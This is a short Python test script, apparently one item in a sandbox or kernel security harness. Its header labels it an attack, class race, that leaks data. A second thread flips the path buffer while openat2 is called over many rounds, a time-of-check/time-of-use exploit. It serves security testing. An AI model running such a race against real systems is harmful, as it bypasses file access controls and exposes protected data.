# SPDX-License-Identifier: Apache-2.0
# attack: another thread flips the path of openat2
# class: race
# wins: leak
# needs: race
from kit import *

buf, at, bits = twin_path()
how = struct.pack('<QQQ', 0, 0, 0)
tried()
f = Flipper(at, bits)
rounds(lambda i: took(sc('openat2', AT_FDCWD, buf, how, 24)))
f.end()
